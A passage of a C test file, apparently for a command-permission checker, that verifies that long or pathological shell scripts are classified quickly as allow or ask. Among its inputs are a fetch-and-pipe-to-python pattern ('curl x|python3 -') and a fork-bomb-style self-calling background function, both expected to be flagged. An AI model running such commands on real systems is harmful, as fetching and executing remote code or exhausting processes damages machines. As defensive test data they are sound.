    expect_quick(more, words, COMMAND_ALLOW, "40 words");
    free(rules);
    free(more);
    free(word);
    free(medium);
    free(words);
}

static void expect_quick_script(const char *script, enum command_rule rule, const char *what)
{
    expect_quick("commands:\n  default: allow\n  dangerous: ask\n",
                 ARGV("sh", "-c", (char *)script), rule, what);
}

Test(commands, no_script_takes_long)
{
    static const struct {
        const char *before, *what, *after, *name;
        size_t times;
        enum command_rule rule;
    } scripts[] = {
        {"a", "|a", " &", "a long pipe", 1000, COMMAND_ALLOW},
        {"a", "|a", "", "a long pipe in the foreground", 1000, COMMAND_ALLOW},
        {"python3 -", "|python3 -", "", "a pipe of readers", 1000, COMMAND_ALLOW},
        {"curl x", "|python3 -", "", "a pipe of readers that fetches", 1000, COMMAND_ASK},
        {"f(){ :", ";f&", "\n}", "a function that calls itself", 1000, COMMAND_ASK},
        {"f(){ :", ";g&", "\n}", "a function that calls others", 1000, COMMAND_ALLOW},
        {"env env env env env env env env cat", " a", "", "wrappers before words", 16000,
         COMMAND_ASK},
        {"eval eval eval eval eval : ", " a", "", "an eval of evals", 16000, COMMAND_ASK},
        {": ", ">a ", "", "redirections", 16000, COMMAND_ALLOW},
        {"cat <<E\n", "a line of a file $x\n", "E\n", "a here-document", 5000, COMMAND_ALLOW},
        {"echo ", "$(a)", "", "substitutions in one word", 1000, COMMAND_ALLOW},
        {"echo ", "`a`", "", "and in backticks", 1000, COMMAND_ALLOW},
        {"echo '", "a", "'", "a long word", 100000, COMMAND_ALLOW},
    };
    for (size_t i = 0; i < ARRAY_LEN(scripts); i++) {
        char *text = repeat(scripts[i].before, scripts[i].what, scripts[i].times, scripts[i].after);
        expect_quick_script(text, scripts[i].rule, scripts[i].name);
        free(text);
    }
    /* A pipe of a thousand that is put into the background a hundred thousand times. */
    char *pipe = repeat("a", "|a", 1000, " "), *text = repeat(pipe, "& ", 120000, "");
    expect_quick_script(text, COMMAND_ALLOW, "a long pipe and &");
    free(pipe);
    free(text);
}
